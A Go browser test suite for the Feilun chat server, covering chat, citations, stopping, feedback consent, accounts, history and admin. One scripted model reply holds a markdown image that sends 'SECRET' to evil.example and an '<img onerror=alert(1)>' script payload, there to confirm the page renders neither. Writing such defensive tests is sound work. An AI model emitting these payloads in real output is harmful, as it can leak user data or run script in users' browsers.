package web

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"net/http"
	"strings"
	"testing"
	"time"

	"feilun/serve"

	"github.com/chromedp/chromedp"
)

// serverScript is what the model of the real server says.
const serverScript = `{"match":"cranes","text":"The harbour of Lorna has 12 cranes and three docks [1]. The moon over it is made of old cheese."}
{"match":"[slow]","text":"word {{n}} ","repeat":400,"delay_ms":20,"piece":8}
{"match":"[429]","error":{"status":429,"code":"rate_limited","message":"too many requests","retry_after":1}}
{"match":"[break]","text":"half of an answer, and no more","after":2,"error":{"status":502,"code":"upstream","message":"the model server failed"}}
{"match":"[md]","text":"## Wheels\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n$x^2$\n\n` + "```go\\nfunc main() {}\\n```" + `\n\n![x](https://evil.example/?q=SECRET) <img src=x onerror=alert(1)>"}
`

// A harbour holds one document.
type harbour struct{}

const harbourText = "The harbour of Lorna was built in 1874. It has 12 cranes and three docks, the harbour of Lorna. Ships from Norway call there twice a week."

func (harbour) Search(_ context.Context, query string, _ int) ([]serve.Passage, error) {
	if !strings.Contains(strings.ToLower(query), "lorna") {
		return nil, nil
	}
	return []serve.Passage{{Doc: "d1", Version: "v1", URL: "https://harbour.example/lorna", Title: "Harbour of Lorna", Date: "2020-01-02", Text: harbourText, End: len(harbourText)}}, nil
}

func (harbour) Passage(_ context.Context, version string, start, end, margin int) (serve.Passage, error) {
	if version != "v1" || start > end || end > len(harbourText) {
		return serve.Passage{}, errors.New("no such text")
	}
	from, to := max(0, start-margin), min(len(harbourText), end+margin)
	return serve.Passage{Doc: "d1", Version: "v1", URL: "https://harbour.example/lorna", Title: "Harbour of Lorna", Before: harbourText[from:start], Text: harbourText[start:end], After: harbourText[end:to], Start: start, End: end}, nil
}

// realServer starts Feilun's own server with the page.
func realServer(t *testing.T, o serve.Options) string {
	t.Helper()
	g, err := serve.NewScripted(strings.NewReader(serverScript))
	if err != nil {
		t.Fatal(err)
	}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	o.Generator, o.Searcher, o.Page = g, harbour{}, Files()
	if o.Addr == "" {
		o.Addr = l.Addr().String()
	}
	s, err := serve.New(o)
	if err != nil {
		t.Fatal(err)
	}
	ctx, stop := context.WithCancel(context.Background())
	ended := make(chan error, 1)
	go func() { ended <- s.Serve(ctx, l) }()
	t.Cleanup(func() {
		stop()
		if err := errors.Join(<-ended, s.Close()); err != nil {
			t.Error(err)
		}
	})
	return "http://" + l.Addr().String()
}

// TestServer goes through the page on the real server.
func TestServer(t *testing.T) {
	if testing.Short() {
		t.Skip("takes a browser")
	}
	b := startBrowser(t)
	b.url = realServer(t, serve.Options{Data: t.TempDir()})
	b.viewport(1280, 800)
	for _, s := range []struct {
		name string
		run  func(*browser)
	}{{"chat", realChat}, {"sources", realSources}, {"stop", realStop}, {"feedback", realFeedback}, {"history", realHistory}, {"admin", realAdmin}} {
		ok := t.Run(s.name, func(t *testing.T) {
			b.t = t
			s.run(b)
		})
		if b.t = t; !ok && b.ctx.Err() != nil {
			return
		}
	}
}

// start opens a new chat with the browser's memory empty.
func (b *browser) start() {
	b.t.Helper()
	b.do(chromedp.Navigate(b.url + "/"))
	b.run(`localStorage.clear()`)
	b.open("")
	b.until(`document.querySelector(".first-words") && document.querySelector(".model-name").textContent === "scripted"`)
}

func (b *browser) plain() {
	b.t.Helper()
	b.run(`document.querySelector('.modes input[value="plain"]').click()`)
	b.until(`document.querySelector('.modes input[value="plain"]').checked`)
}

func realChat(b *browser) {
	b.start()
	b.shot("real-empty")
	b.run(`document.querySelector(".suggestions button").click()`)
	b.until(`(() => { const e = document.querySelector("#question"); return e === document.activeElement && e.value.slice(e.selectionStart, e.selectionEnd) === "…"; })()`)
	b.typeText("#question", "")
	b.plain()
	b.answered("Say this back, please.")
	b.until(`document.querySelector(".prose").textContent === "Say this back, please."`)
	b.answered("[md] now")
	b.until(`document.querySelectorAll(".prose table, .prose .code .k-k, .prose math").length === 3`)
	if n := eval[int](b, `document.querySelectorAll(".transcript img").length`); n != 0 {
		b.t.Error("an image is shown")
	}
	b.answered("[break] it")
	b.until(`document.querySelector(".notice.bad")?.textContent.includes("model server failed")`)
	b.shot("real-chat")
	b.click(`.question .edit`)
	b.typeText(".editor textarea", "Say that instead.")
	b.click(".editor .main")
	b.until(`document.querySelectorAll(".question").length === 1 && document.querySelector(".question .of")?.textContent === "2/2"`)
	b.until(ended)
	b.click(".answer.last .again")
	b.choose("Answer again")
	b.until(`document.querySelector(".answer.last .of")?.textContent === "2/2"`)
	b.until(ended)
	b.click(".answer.last .edit")
	b.typeText(".editor textarea", "My own words.")
	b.click(".editor .main")
	b.until(`document.querySelector(".answer.last .prose")?.textContent === "My own words."`)
	b.do(reload())
	b.until(`document.querySelector(".answer.last .of")?.textContent === "3/3" && document.querySelector(".question .of").textContent === "2/2"`)
	b.click(`.question [aria-label="Previous version"]`)
	b.until(`document.querySelectorAll(".question").length === 3`)
	b.do(reload())
	b.until(`document.querySelectorAll(".question").length === 3`)
}

func realSources(b *browser) {
	b.start()
	b.answered("How many cranes has the harbour of Lorna?")
	b.until(`document.querySelector(".prose .cite")`)
	b.shot("real-cited")
	quote := eval[string](b, `document.querySelector(".prose .cite").getAttribute("aria-label")`)
	if quote != "Citation 1: Harbour of Lorna" {
		b.t.Errorf("the chip is called %q", quote)
	}
	b.click(".prose .cite")
	b.until(`document.querySelector(".card .surrounding")`)
	mark := eval[string](b, `document.querySelector(".card mark").textContent`)
	if !strings.Contains(harbourText, mark) || !strings.Contains(mark, "12 cranes") || eval[bool](b, `!!document.querySelector(".card .warning")`) {
		b.t.Errorf("the card quotes %q", mark)
	}
	href := eval[string](b, `document.querySelector(".card footer a").href`)
	res, err := http.Get(href)
	if err != nil || res.StatusCode != 200 {
		b.t.Errorf("the stored copy at %s: %v %v", href, res, err)
	} else {
		res.Body.Close()
	}
	b.press("body", `key: "Escape"`)
	b.until(`document.querySelector(".unsupported")?.textContent.includes("cheese")`)
	b.answered("Who owns the wheel of nowhere?")
	b.until(`document.querySelectorAll(".kind").length === 1`)
	b.start()
	b.click(".model-button")
	b.choose("Quotes")
	b.answered("Tell me of the harbour of Lorna.")
	b.until(`document.querySelector(".kind")?.textContent.includes("No model wrote this") && document.querySelector(".prose blockquote .cite")`)
	b.shot("real-quotes")
}

func realStop(b *browser) {
	b.start()
	b.plain()
	b.ask("[slow] please")
	b.until(`document.querySelector(".prose")?.textContent.length > 30`)
	b.do(reload())
	b.until(`document.querySelector(".prose")?.textContent.length > 60 && document.querySelector(".answer").dataset.state === "running"`)
	began := time.Now()
	b.click(".send.stop")
	b.until(`document.querySelector(".answer").dataset.state === "stopped"`)
	b.t.Logf("stopped in %v, as the page sees it", time.Since(began).Round(time.Millisecond))
	text := eval[string](b, `document.querySelector(".prose").textContent`)
	id := eval[string](b, `document.querySelector(".answer").dataset.message`)
	kept := func() string { return strings.TrimSpace(get[struct{ Text string }](b, "/api/messages/"+id).Text) }
	at := kept()
	time.Sleep(300 * time.Millisecond)
	if after := kept(); after != at || strings.TrimSpace(text) != at {
		b.t.Errorf("the server wrote on after the stop, or has another text: %d characters, then %d; the page has %d", len(at), len(after), len(text))
	}
	b.do(reload())
	b.until(`document.querySelector(".answer")?.dataset.state === "stopped"`)
	if got := eval[string](b, `document.querySelector(".prose").textContent`); got != text {
		b.t.Errorf("%d characters after the reload, %d before", len(got), len(text))
	}
}

// TestServerPeople goes through the doors of a server that others can reach: the first admin, an invitation, privacy, logout.
func TestServerPeople(t *testing.T) {
	if testing.Short() {
		t.Skip("takes a browser")
	}
	b := startBrowser(t)
	told := make(chan string, 8)
	b.url = realServer(t, serve.Options{Data: t.TempDir(), Addr: "0.0.0.0:8080", Hosts: []string{"127.0.0.1"}, Token: func(token string) { told <- token }})
	var token string
	select {
	case token = <-told:
	case <-time.After(10 * time.Second):
		t.Fatal("no token was told")
	}
	b.viewport(1280, 800)
	b.open("#/setup/" + token)
	enter := func(name, password string) {
		b.typeText("input[autocomplete=username]", name)
		b.typeText("input[type=password]", password)
		b.run(`document.querySelector(".door form").requestSubmit()`)
	}
	in := func(name string) {
		b.until(fmt.Sprintf(`document.querySelector(".composer") && document.querySelector(".user-name").textContent === %q`, name))
	}
	enter("wei", "a long pass phrase")
	in("wei")
	b.plain()
	b.answered("a secret of wei")
	chat := eval[string](b, `location.hash`)
	b.open("#/admin")
	b.click(".panel:nth-of-type(2) .main")
	b.until(`document.querySelector(".secret-box code")`)
	join := eval[string](b, `new URL(document.querySelector(".secret-box code").textContent).hash`)
	b.open("")
	b.click(".user-button")
	b.choose("Sign out")
	b.until(`document.querySelector(".door form") && !document.querySelector(".rail")`)
	b.open(join)
	enter("ana", "another pass phrase")
	in("ana")
	b.until(`document.querySelector(".rail .empty")`)
	b.open(chat)
	b.until(`document.body.textContent.includes("There is no such chat")`)
	b.shot("real-privacy")
	b.open("#/account")
	b.typeText(".row-form input[autocomplete=current-password]", "another pass phrase")
	b.typeText(".row-form input[autocomplete=new-password]", "a third pass phrase")
	b.run(`document.querySelector(".row-form").requestSubmit()`)
	b.until(`document.querySelector(".toast").textContent === "Saved"`)
	b.typeText(".panel:last-of-type input[type=text]", "script")
	b.run(`document.querySelector(".panel:last-of-type form").requestSubmit()`)
	b.until(`document.querySelector(".secret-box code")?.textContent.length > 20`)
	b.open("")
	b.click(".user-button")
	b.choose("Sign out")
	b.until(`document.querySelector(".door form")`)
	enter("ana", "another pass phrase")
	b.until(`document.querySelector(".door [role=alert]")`)
	enter("ana", "a third pass phrase")
	in("ana")
}

// get asks the server from within the page.
func get[T any](b *browser, path string) (v T) {
	b.t.Helper()
	s := eval[string](b, fmt.Sprintf(`(() => { const x = new XMLHttpRequest(); x.open("GET", %q, false); x.send(); return x.responseText; })()`, path))
	if err := json.Unmarshal([]byte(s), &v); err != nil {
		b.t.Fatalf("%s: %v: %s", path, err, s)
	}
	return v
}

func realFeedback(b *browser) {
	b.start()
	b.plain()
	b.answered("kept to myself")
	b.click(`[aria-label="Good answer"]`)
	b.until(`document.querySelector(".toast.on")`)
	if counts := get[struct{ Kinds map[string]int }](b, "/api/admin/feedback"); len(counts.Kinds) != 0 {
		b.t.Errorf("without consent the book has %v", counts.Kinds)
	}
	b.start()
	b.plain()
	b.click(".badge")
	b.run(`document.querySelectorAll('input[name="scope"]')[1].click()`)
	b.until(`document.querySelector(".badge").textContent === "Helps improve"`)
	b.shot("real-consent")
	b.click("dialog .icon-button")
	b.answered("hello there")
	b.click(`[aria-label="Bad answer"]`)
	b.click("dialog .chip")
	b.click("dialog .main")
	b.until(`!document.querySelector("dialog")`)
	b.do(reload())
	b.until(`document.querySelector('[aria-label="Bad answer"]')?.getAttribute("aria-pressed") === "true"`)
	b.click(".compare")
	b.ask("and which of these")
	b.until(`document.querySelectorAll(".side").length === 2`)
	b.until(ended)
	b.until(`!document.querySelector(".verdict button").disabled`)
	b.press("body", `key: "1"`)
	b.until(`!document.querySelector(".pair")`)
	b.do(reload())
	b.until(`document.querySelectorAll(".question").length === 2 && !document.querySelector(".pair")`)
	counts := get[struct{ Kinds map[string]int }](b, "/api/admin/feedback")
	if counts.Kinds["down"] != 1 || counts.Kinds["choice"] != 1 {
		b.t.Errorf("the book has %v", counts.Kinds)
	}
	b.click(".badge")
	b.click(".consent > .buttons .danger")
	b.click("dialog dialog .danger")
	b.until(`document.querySelector(".withdrawn")`)
	b.until(`document.querySelector(".badge").textContent === "Kept private"`)
	if counts := get[struct{ Kinds map[string]int }](b, "/api/admin/feedback"); len(counts.Kinds) != 0 {
		b.t.Errorf("after the withdrawal the book has %v", counts.Kinds)
	}
	b.shot("real-withdrawn")
	b.click("dialog .icon-button")
}

func realHistory(b *browser) {
	b.start()
	b.plain()
	b.answered("the quince is hidden here")
	b.click(".question .edit")
	b.typeText(".editor textarea", "nothing of that fruit")
	b.click(".editor .main")
	b.until(`document.querySelector(".question .of")?.textContent === "2/2"`)
	b.until(ended)
	b.run(`document.querySelector(".new-chat").click()`)
	b.until(`document.querySelector(".first-words")`)
	b.typeText("#search-chats", "quince")
	b.until(`document.querySelectorAll(".rail li").length === 1`)
	b.shot("real-search")
	b.click(".rail li a")
	b.until(`document.querySelector(".question")`)
	b.typeText("#search-chats", "")
	b.until(`document.querySelectorAll(".rail li").length > 3`)
	b.click(".rail li.here .row-menu")
	b.choose("Rename")
	b.typeText("dialog input", "Fruit")
	b.click("dialog .main")
	b.until(`document.title.startsWith("Fruit")`)
	id := eval[string](b, `location.hash.split("/")[2]`)
	for format, want := range map[string]string{"md": "quince", "json": `"text"`} {
		file := eval[string](b, fmt.Sprintf(`(() => { const x = new XMLHttpRequest(); x.open("GET", "/api/chats/%s/export?format=%s", false); x.send(); return x.status + x.responseText; })()`, id, format))
		if !strings.HasPrefix(file, "200") || !strings.Contains(file, want) {
			b.t.Errorf("the export as %s is %q", format, file)
		}
	}
	n := eval[int](b, `document.querySelectorAll(".rail li").length`)
	b.click(".rail li.here .row-menu")
	b.choose("Delete")
	b.click("dialog .danger")
	b.until(fmt.Sprintf(`document.querySelectorAll(".rail li").length === %d && document.querySelector(".first-words")`, n-1))
	b.click(".ghost-button")
	b.answered("leave no trace")
	b.run(`document.querySelector(".new-chat").click()`)
	b.until(`document.querySelector(".first-words")`)
	all := get[struct{ Chats []struct{ Title string } }](b, "/api/chats?q=trace")
	if len(all.Chats) != 0 {
		b.t.Errorf("a temporary chat is found: %v", all)
	}
}

func realAdmin(b *browser) {
	b.open("#/account")
	b.until(`document.querySelector(".page h1")`)
	b.typeText(".language", "zh-CN")
	b.until(`document.documentElement.lang === "zh-CN"`)
	b.typeText(".language", "en")
	b.open("#/admin")
	b.until(`document.querySelectorAll(".panel").length >= 4`)
	b.run(`[...document.querySelectorAll("button")].find((e) => e.textContent === "Make a backup").click()`)
	b.until(`document.querySelector(".panel [role=status]")?.textContent.includes("backups/")`)
	b.shot("real-admin")
}
